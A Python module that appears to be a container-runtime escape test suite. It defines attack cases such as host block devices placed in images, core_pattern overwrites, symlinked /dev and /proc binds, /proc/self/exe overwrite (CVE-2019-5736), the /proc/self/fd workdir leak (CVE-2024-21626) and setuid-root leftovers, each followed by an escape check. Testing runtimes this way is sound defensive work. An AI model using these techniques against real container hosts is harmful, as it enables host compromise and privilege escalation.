# SPDX-License-Identifier: MIT
"""Devices, settings of the kernel's, and programs with privilege."""
import os
import shutil
import stat
import subprocess

import box
import host
from attack_table import OURS, attack
from box import IMAGE, SHARE


def loop_device(t):
    """A disk of the host's: a loop device on a file that is watched."""
    host.write("/mnt/disk", "\0" * 65536, 0o600)
    t.host.watched.append("/mnt/disk")
    t.host.watched[-1] = "/mnt/disks"
    os.mkdir("/mnt/disks")
    os.rename("/mnt/disk", "/mnt/disks/disk")
    done = subprocess.run(["losetup", "--find", "--show", "/mnt/disks/disk"], capture_output=True, text=True, check=False)
    if done.returncode != 0:
        raise box.NotApplicable("this host gives no loop device")
    device = done.stdout.strip()
    t.undo = [lambda: subprocess.run(["losetup", "--detach", device], check=False)]
    return os.stat(device).st_rdev


def node(path, device, owner):
    os.mknod(path, stat.S_IFBLK | 0o666, device)
    os.chmod(path, 0o666)
    os.chown(path, owner, owner)


@attack("B", "device-in-image", "a node of the host's disk in the image")
def device_in_image(t):
    node(f"{IMAGE}/disk", loop_device(t), t.disk_root)
    t.attack("device", "/disk")


@attack("B", "device-in-layers", "the same in an image whose changes go to memory", products=OURS)
def device_in_layers(t):
    node(f"{IMAGE}/disk", loop_device(t), t.disk_root)
    t.ephemeral = True
    t.attack("device", "/disk")


@attack("B", "device-in-bind", "the same in a directory that is bound")
def device_in_bind(t):
    node(f"{SHARE}/disk", loop_device(t), t.root_id)
    t.bind(SHARE, "/data")
    t.attack("device", "/data/disk")


@attack("B", "device-in-mapped-bind", "the same in a bind with a map", products=OURS, who=("rootful",))
def device_in_mapped_bind(t):
    node(f"{SHARE}/disk", loop_device(t), 0)
    t.bind(SHARE, "/data", idmap=True)
    t.attack("device", "/data/disk")


@attack("B", "device-made-inside", "it makes the node itself")
def device_made(t):
    device = loop_device(t)
    t.bind(SHARE, "/data")
    t.attack("make-devices", f"b:{os.major(device)}:{os.minor(device)}")


# ---- settings ----

SETTINGS = ("/proc/sys/fs/lease-break-time", "/proc/sys/kernel/core_pattern")


def settings(identity):
    def run(t):
        if identity and t.rootless:
            raise box.NotApplicable("an ordinary user has no such map")
        t.identity = identity
        before = {path: host.read(path) for path in SETTINGS}

        def undo():
            for path, text in before.items():
                if host.read(path) != text:
                    with open(path, "wb") as file:
                        file.write(text)
        t.undo = [undo]
        t.attack("overwrite", SETTINGS[0], "46", SETTINGS[1], "core.escaped")
        for path, text in before.items():
            if host.read(path) != text:
                t.escaped(f"changed {path}")
    return run


attack("B", "settings", "it writes `core_pattern` and other settings in /proc/sys")(settings(False))
attack("B", "settings-with-the-hosts-ids", "the same where its root has the host's number 0 (`-m 0:0:N`)", who=("rootful",),
       products=("idmount", "runc", "crun", "bwrap"))(settings(True))


def read_masked(identity):
    def run(t):
        t.identity = identity
        names = [name for name in box.MASKED if os.path.isfile(name) and name != "/proc/kcore"]
        t.run(["/bin/sh", "-c", "echo began; for f in " + " ".join(names) +
               '; do test -z "$(dd if=$f bs=64 count=1 2>/dev/null)" || echo "has $f"; done'])
        for name in names:
            if f"has {name}" in t.output:
                t.escaped(f"read {name}")
    return run


attack("B", "masked", "it reads what runc masks in /proc")(read_masked(False))
attack("B", "masked-with-the-hosts-ids", "the same with the host's ids", who=("rootful",), products=("idmount", "bwrap", "runc", "crun"))(
    read_masked(True))


def redirected(names, target):
    """CVE-2025-52881: what the runtime itself writes into /proc goes elsewhere."""
    def run(t):
        t.directory("/mnt/lies", {})
        for name in names:
            os.makedirs(os.path.dirname(f"/mnt/lies/{name}"), exist_ok=True)
            os.symlink(target, f"/mnt/lies/{name}")
        t.bind("/mnt/lies", "/proc")
        t.attack("dotdot")
    return run


attack("B", "false-proc", "a bind covers /proc with links to files of the host (CVE-2025-52881)", may_refuse=True)(redirected(
    [f"{who}/{name}" for who in ("self", "1", "2", "thread-self") for name in ("uid_map", "gid_map", "setgroups", "oom_score_adj", "attr/exec")] +
    ["sys/user/max_user_namespaces", "sys/kernel/hostname", "sysrq-trigger", "keys"], "../../mnt/host/file"))


@attack("B", "false-sysctl", "`--disable-userns`, where a bind covers /proc/sys/user with links to files of the host", products=("idmount", "bwrap"),
        may_refuse=True)
def false_sysctl(t):
    t.more = ["--disable-userns"]
    t.directory("/mnt/lies", {})
    os.symlink("../../../../mnt/host/file", "/mnt/lies/max_user_namespaces")
    t.bind("/mnt/lies", "/proc/sys/user")
    t.attack("dotdot")


# ---- what the runtime binds into /dev, and covers ----

DEV_NAMES = ("null", "zero", "full", "random", "urandom", "tty", "console", "ptmx", "pts", "shm", "fd", "stdin", "stdout", "stderr", "mqueue")


def links_in_dev(target):
    def run(t):
        shutil.rmtree(f"{IMAGE}/dev")
        os.mkdir(f"{IMAGE}/dev")
        for name in DEV_NAMES:
            os.symlink(target, f"{IMAGE}/dev/{name}")
        t.attack("dotdot")
    return run


for TARGET in ("../../mnt/host/file", "/mnt/host/made", "../../mnt/host", "/proc/sys/kernel/core_pattern", "/proc/self/fd/7/host/file"):
    attack("B", f"image-dev-{TARGET}", f"`/dev/null`, `/dev/console` and the others are links to `{TARGET}` (CVE-2025-31133, CVE-2025-52565)",
           may_refuse=True)(links_in_dev(TARGET))


@attack("B", "bound-dev", "the same of a directory that is bound on /dev", may_refuse=True)
def bound_dev(t):
    t.directory("/mnt/lies", {})
    for name in DEV_NAMES:
        os.symlink("../../mnt/host/file", f"/mnt/lies/{name}")
    t.bind("/mnt/lies", "/dev")
    t.attack("dotdot")


@attack("B", "masked-paths-that-are-links", "what is masked, and `/proc`, are links in a directory that is bound there", may_refuse=True)
def masked_links(t):
    t.directory("/mnt/lies", {})
    for name in ("keys", "kcore", "timer_list", "sys", "bus", "fs", "irq", "acpi", "scsi"):
        os.symlink("../../mnt/host/file", f"/mnt/lies/{name}")
    t.bind("/mnt/lies", "/proc")
    t.attack("dotdot")


# ---- programs ----

def program_attack(command):
    def run(t):
        t.own_program = t.identity = True
        path = box.idmount_program(t) if t.product == "idmount" else None
        if path:
            t.host.watched.append("/mnt/bin")
        for name in ("link", "data/idmount"):
            os.symlink("/proc/self/exe", f"{IMAGE}/{name}")
        host.write(f"{IMAGE}/script", "#!/proc/self/exe programs\n", 0o755, t.disk_root)
        shutil.copy(f"{IMAGE}/bin/attack", f"{IMAGE}/bin/idmount")
        if command is None:
            t.attack("programs", "/proc/self/exe")
        else:
            t.run(command)
        if path and subprocess.run([path, "--version"], capture_output=True, check=False).returncode != 0:
            t.escaped("broke the program")
    return run


attack("B", "programs", "it overwrites the runtime through `/proc/PID/exe` (CVE-2019-5736)", products=OURS)(program_attack(None))
attack("B", "programs-by-script", "the command is a script of `#!/proc/self/exe`", products=OURS, may_refuse=True, on_host=True)(
    program_attack(["/script"]))
attack("B", "programs-by-link", "the command is a link to `/proc/self/exe`", products=OURS, may_refuse=True, on_host=True)(
    program_attack(["/link", "programs"]))


def workdir(path, link=None):
    def run(t):
        if link:
            t.link(link, "wd")
        t.workdir = path
        t.attack("dotdot", ".")
    return run


for N in range(3, 24):
    attack("B", f"workdir-fd-{N}", f"`--workdir /proc/self/fd/{N}` (CVE-2024-21626)", may_refuse=True, modes=("terminal",))(workdir(f"/proc/self/fd/{N}"))
for LINK in ("/proc/self/fd/7", "/proc/self/fd/8", "/proc/1/cwd", "/proc/self/cwd/..", "../../mnt/host"):
    attack("B", f"image-workdir-{LINK}", f"`--workdir /wd`, a link to `{LINK}`", may_refuse=True)(workdir("/wd", LINK))


# ---- setuid ----

@attack("B", "setuid-for-the-host", "it leaves a setuid-root program that any user of the host can run (CVE-2021-41103)", products=("idmount",))
def setuid_for_host(t):
    """Where the disk's owner is an id of the host's own, that has to be said at the start."""
    shutil.copy(f"{IMAGE}/bin/busybox", f"{IMAGE}/tmp/own")
    os.chown(f"{IMAGE}/tmp/own", t.disk_root, t.disk_root)
    t.attack("setuid", "/tmp/own")
    st = os.stat(f"{IMAGE}/tmp/own")
    if t.rootless or not st.st_mode & stat.S_ISUID or st.st_uid != 0:
        return
    done = subprocess.run(["setpriv", "--reuid", str(host.OTHER), "--regid", str(host.OTHER), "--clear-groups",
                           f"{IMAGE}/tmp/own", "id", "-u"], capture_output=True, text=True, check=False)
    if done.stdout.strip() == "0" and "setuid" not in t.output:
        t.escaped("another user became root by it, and nothing was said at the start")
